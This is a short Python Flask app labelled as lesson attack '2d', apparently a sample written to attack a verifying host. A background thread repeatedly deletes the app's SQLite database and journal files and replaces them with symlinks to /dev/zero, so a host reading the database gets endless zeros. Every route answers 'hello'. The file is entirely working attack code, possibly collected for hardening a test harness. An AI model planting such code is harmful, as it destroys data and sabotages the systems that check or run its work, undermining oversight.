# Attack 2d (lesson 5): the throwaway database replaced by a link to /dev/zero, again and again, for the host to read.
import os
import stat
import threading
import time

from flask import Flask

app = Flask(__name__)
uri = os.environ.get("FLASK_SQLALCHEMY_DATABASE_URI", "")
database = uri[len("sqlite:///"):] if uri.startswith("sqlite:///") else "verify.db"


def plant():
    while True:
        for path in (database, database + "-journal"):
            try:
                if os.path.lexists(path) and os.path.islink(path):
                    continue
                if os.path.lexists(path):
                    os.remove(path)
                os.symlink("/dev/zero", path)
            except OSError:
                pass
        time.sleep(0.2)


threading.Thread(target=plant, daemon=True).start()


@app.route("/", defaults={"path": ""})
@app.route("/<path:path>", methods=["GET", "POST"])
def everything(path):
    return "hello"
